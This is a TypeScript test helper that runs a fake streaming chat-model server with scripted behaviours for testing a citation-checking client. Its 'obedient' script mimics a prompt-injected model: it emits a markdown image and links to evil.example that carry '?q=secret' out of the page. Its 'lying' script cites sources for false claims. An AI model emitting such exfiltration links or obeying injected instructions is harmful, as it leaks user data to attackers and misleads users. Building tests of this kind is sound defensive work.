import type { IncomingMessage, Server, ServerResponse } from "node:http";
import { CHAT, MESSAGES } from "./chat-dialects.ts";
import { bodyOf, startLocalServer } from "./local-server.ts";
import { WORDINGS } from "./wordings.ts";

/** One request for a completion. */
export interface AskedText {
  readonly behaviour: string;
  readonly path: string;
  readonly headers: IncomingMessage["headers"];
  readonly body: ChatBody;
  /** Resolves when the connection closes. True if the server had sent the whole text. */
  readonly ended: Promise<boolean>;
}

interface ChatBody {
  readonly model: string;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly [field: string]: unknown;
}

/** The interface through which a script writes its response. */
export interface Writer {
  /** The question and the numbered sentences in the prompt. */
  readonly question: string;
  readonly sentences: readonly string[];
  readonly prompt: string;
  /** Whether the request asks to rewrite rejected sentences. */
  readonly isRepair: boolean;
  /** The number of earlier requests for this behavior. */
  readonly before: number;
  /** The number of the first sentence that contains the words, or 0. */
  readonly numberOf: (words: string) => number;
  /** Sends a piece of text. Resolves in the next turn of the event loop, or when the reader disconnects. */
  readonly say: (text: string) => Promise<void>;
  /** Sends a piece of reasoning beside the text. */
  readonly think: (thought: string) => Promise<void>;
  /** Waits, at most until the reader disconnects. */
  readonly pause: (ms: number) => Promise<void>;
  /** Waits until the test opens the gate. */
  readonly gate: () => Promise<void>;
}

export type Script = (writer: Writer) => Promise<void>;

/** The return value of a script whose text breaks off. */
export const BROKEN = Symbol("broken");

const plain: Script = async ({ say, sentences, question }) => {
  const number = bestOf(sentences, question);
  await say(`${sentences[number - 1] ?? ""} `);
  await say(`[${number}]`);
};

/** The successive behaviors of the `fickle` model. */
const MOODS: readonly Script[] = [
  plain,
  plain,
  async ({ say, sentences, question }) => {
    await say((sentences[bestOf(sentences, question) - 1] ?? "").slice(0, 20));
    throw BROKEN;
  },
  plain,
  async (writer) => {
    await plain(writer);
    await writer.say(" ");
    await plain(writer);
  },
  async (writer) => {
    await writer.pause(400);
    await plain(writer);
  },
  plain,
  async ({ say, sentences, question, pause }) => {
    await say((sentences[bestOf(sentences, question) - 1] ?? "").slice(0, 20));
    await pause(600_000);
  },
  plain,
  async () => {
    throw BROKEN;
  },
];

/**
 * The behavior of the model in the path, at `/<behaviour>/v1/chat/completions` and
 * `/<behaviour>/v1/messages`.
 */
const SCRIPTS = {
  /** Quotes and cites the sentence that shares most words with the question. */
  plain,
  /** Usually like `plain`. Otherwise it breaks off, repeats itself, is slow, or falls silent. */
  fickle: async (writer) => await MOODS[writer.before % MOODS.length]?.(writer),
  /** Paraphrases the sentence that `plain` quotes. */
  paraphrase: async ({ say, numberOf }) => {
    for (const piece of ["The har", "bour of Brack", "water has been open since 1871 [", `${numberOf("1871")}`, "]."]) await say(piece);
  },
  /** Sends the given sentences one after the other. */
  slowly: async ({ say, pause, sentences }) => {
    for (const [at, sentence] of sentences.slice(0, 3).entries()) {
      await say(sentence.slice(0, 20));
      await pause(30);
      await say(`${sentence.slice(20)} [${at + 1}] `);
      await pause(30);
    }
  },
  /** Holds back the second half until the gate opens. */
  gated: async ({ say, numberOf, gate }) => {
    await say(`The harbour of Brackwater has been open since 1871 [${numberOf("1871")}]. And`);
    await gate();
    await say(` it opened after nine years of work [${numberOf("1871")}].`);
  },
  /** Sends nothing until the reader disconnects. */
  hanging: async ({ pause }) => await pause(600_000),
  /** Sends a few words and then nothing. */
  stuck: async ({ say, pause }) => {
    await say("The harbour of Brack");
    await pause(600_000);
  },
  /** Breaks off without a terminating event. */
  cut: async ({ say, numberOf }) => {
    await say(`The harbour opened in 1871 [${numberOf("1871")}]. It`);
    throw BROKEN;
  },
  "wrong-numbers": async ({ say, numberOf }) => {
    await say(`It has no number. This one has a wrong one [999]. The harbour opened in 1871 [${numberOf("1871")}, 998]. Zero [0].`);
  },
  /** Cites sentences for claims that they do not support. */
  lying: async ({ say, numberOf }) => {
    const number = numberOf("1871");
    await say(`The harbour of Brackwater opened in 1999 [${number}]. The harbour of Brackwater never opened in 1871 [${number}]. `);
    await say(`It belongs to the Duke of Wessex [${number}]. The harbour of Brackwater opened in 1871 [${number}].`);
  },
  /** Writes a wrong number, and the right one in the retry. */
  mending: async ({ say, numberOf, isRepair }) => {
    const [opened, lamp] = [numberOf("1871"), numberOf("1957")];
    if (isRepair) return await say(`The harbour of Brackwater opened in 1871 [${opened}].`);
    await say(`The harbour of Brackwater opened in 1999 [${opened}]. Its lamp burnt oil until 1957 [${lamp}].`);
  },
  /** Writes a wrong number and fails in the retry. */
  "dying-repair": async ({ say, numberOf, isRepair }) => {
    if (isRepair) throw BROKEN;
    await say(
      `The harbour of Brackwater opened in 1999 [${numberOf("1871")}]. The harbour of Brackwater opened in 1871 [${numberOf("1871")}].`,
    );
  },
  /** Writes no true sentence and hangs in the retry. */
  "hanging-repair": async ({ say, numberOf, isRepair, pause }) => {
    if (isRepair) return await pause(600_000);
    await say(`The harbour of Brackwater opened in 1999 [${numberOf("1871")}].`);
  },
  "no-numbers": async ({ say }) => await say("The harbour opened in 1871. It is large."),
  none: async ({ say }) => await say("NONE"),
  ...WORDINGS,
  /** Obeys instructions in a document. */
  obedient: async ({ say, numberOf }) => {
    const number = numberOf("1871");
    await say(`![x](https://evil.exam`);
    await say(`ple/?q=secret) [${number}]. <img src="https://evil.example/"> [${number}]. See https://evil.example/now [${number}]. `);
    await say(`Click [here](https://evil.example) [${number}]. The harbour of Brackwater opened in 1871 [${number}].`);
  },
  /** Never ends. */
  endless: async ({ say, pause }) => {
    for (;;) {
      await say("word ".repeat(10_000));
      await pause(0);
    }
  },
  thinking: async ({ say, numberOf }) => {
    await say("<think>Is it 1999 [1]? No.");
    await say(`</think>The harbour opened in 1871 [${numberOf("1871")}].`);
  },
  slow: async ({ say, pause, numberOf }) => {
    await pause(1_500);
    await say(`The harbour opened in 1871 [${numberOf("1871")}].`);
  },
} satisfies Record<string, Script>;

/** Behaviors that respond with another status or body than an event stream. */
const REFUSALS = {
  failing: [503, {}],
  limited: [429, { "retry-after": "120" }],
  "limited-once": [429, { "retry-after": "0" }],
  refusing: [400, {}],
  redirect: [307, { location: "/plain/v1/chat/completions" }],
  "not-events": [200, { "content-type": "text/html" }],
} satisfies Record<string, [status: number, headers: Record<string, string>]>;

export type ChatBehaviour = keyof typeof SCRIPTS | keyof typeof REFUSALS | "garbage" | "error-event" | "too-long-line";

export interface ChatServer<Own extends string = never> {
  /** The base URL of a model's API. */
  readonly urlOf: (behaviour: ChatBehaviour | Own) => string;
  readonly asked: AskedText[];
  /** Opens the gate for every waiting `gated` text. */
  readonly open: () => void;
  readonly server: Server;
  readonly close: () => void;
}

/**
 * Starts a local language model server that answers like OpenAI, Ollama, vLLM and Anthropic: real streams
 * over HTTP. It builds texts from the sentences in the prompt.
 * @param own further scripts, by behavior
 */
export async function startChatServer<Own extends string = never>(own?: Readonly<Record<Own, Script>>): Promise<ChatServer<Own>> {
  const scripts: Readonly<Record<string, Script>> = { ...SCRIPTS, ...own };
  const asked: AskedText[] = [];
  const gates = new Set<() => void>();
  const open = (): void => {
    for (const go of gates) go();
    gates.clear();
  };
  const { server, origin, close } = await startLocalServer((request, response) => {
    void bodyOf(request).then(async (text) => {
      const [, behaviour = "", , ...rest] = (request.url ?? "").split("/");
      const body = JSON.parse(text) as ChatBody;
      const { promise: ended, resolve } = Promise.withResolvers<boolean>();
      response.on("close", () => resolve(response.writableFinished));
      const before = asked.filter((each) => each.behaviour === behaviour).length;
      asked.push({ behaviour, path: rest.join("/"), headers: request.headers, body, ended });
      if (request.headers.authorization === `Bearer ${WRONG_KEY}`) return refuseKey(response);
      await answer(behaviour as ChatBehaviour, { body, response, isMessage: rest[0] === "messages", before, gates, scripts });
    });
  });
  return { urlOf: (behaviour) => `${origin}/${behaviour}/v1`, asked, open, server, close };
}

export const WRONG_KEY = "sk-that-nobody-takes-1234";

/** Rejects the key as OpenAI does, with the key in the message. */
function refuseKey(response: ServerResponse): void {
  response.writeHead(401, { "content-type": "application/json" });
  response.end(JSON.stringify({ error: { message: `Incorrect API key provided: ${WRONG_KEY}`, code: "invalid_api_key" } }));
}

interface Order {
  readonly body: ChatBody;
  readonly response: ServerResponse;
  /** Whether the request uses Anthropic's message format. */
  readonly isMessage: boolean;
  /** The number of earlier requests for this behavior. */
  readonly before: number;
  readonly gates: Set<() => void>;
  readonly scripts: Readonly<Record<string, Script>>;
}

async function answer(behaviour: ChatBehaviour, { body, response, isMessage, before, gates, scripts }: Order): Promise<void> {
  const [status, headers] = (REFUSALS as Record<string, [number, Record<string, string>]>)[behaviour] ?? [200, null];
  if (headers !== null && !(behaviour === "limited-once" && before > 0)) {
    response.writeHead(status, { "content-type": "application/json", ...headers });
    return void response.end(JSON.stringify({ error: { message: `Too much: ${JSON.stringify(body.messages)}` } }));
  }
  response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8" });
  const send = (data: string): void => void response.write(`data: ${data}\n\n`);
  if (behaviour === "garbage") return void response.end("data: <html>\n\n");
  if (behaviour === "error-event") return void response.end(`data: ${JSON.stringify({ error: { message: "overloaded" } })}\n\n`);
  if (behaviour === "too-long-line") return void response.end(`data: ${"x".repeat(400_000)}\n\n`);
  const gone = new Promise<void>((resolve) => response.on("close", () => resolve()));
  const dialect = isMessage ? MESSAGES : CHAT;
  const system = typeof body["system"] === "string" ? body["system"] : "";
  const prompt = [system, ...body.messages.map(({ content }) => content)].join("\n\n");
  const sentences = [...prompt.matchAll(/^⟨\d+⟩ (.*)$/gm)].map(([, sentence]) => sentence ?? "");
  const sendPart = async (part: object): Promise<void> => {
    if (response.destroyed) throw BROKEN;
    send(JSON.stringify(part));
    await new Promise((resolve) => setImmediate(resolve));
  };
  const writer: Writer = {
    prompt,
    before,
    isRepair: /^These sentences of your answer do not say/m.test(body.messages.at(-1)?.content ?? ""),
    question: /^Question: (.*)$/m.exec(prompt.slice(prompt.lastIndexOf("Question: ")))?.[1] ?? "",
    sentences,
    numberOf: (words) => sentences.findIndex((sentence) => sentence.includes(words)) + 1,
    say: async (text) => await sendPart(dialect.part(text)),
    think: async (thought) => await sendPart(dialect.thought(thought)),
    pause: async (ms) => {
      let timer: ReturnType<typeof setTimeout> | undefined;
      await Promise.race([gone, new Promise((resolve) => (timer = setTimeout(resolve, ms)))]).finally(() => clearTimeout(timer));
      if (response.destroyed) throw BROKEN;
    },
    gate: async () => await Promise.race([gone, new Promise<void>((resolve) => gates.add(resolve))]),
  };
  for (const event of dialect.begin) send(JSON.stringify(event));
  try {
    await (scripts[behaviour] ?? plain)(writer);
  } catch (error) {
    if (error !== BROKEN) throw error;
    return void response.end();
  }
  for (const event of dialect.end) send(typeof event === "string" ? event : JSON.stringify(event));
  response.end();
}

/** Counts from 1. */
function bestOf(sentences: readonly string[], question: string): number {
  const asked = new Set(question.toLowerCase().match(/\p{L}{4,}/gu) ?? []);
  const shared = sentences.map((sentence) => (sentence.toLowerCase().match(/\p{L}{4,}/gu) ?? []).filter((word) => asked.has(word)).length);
  return shared.indexOf(Math.max(...shared)) + 1;
}
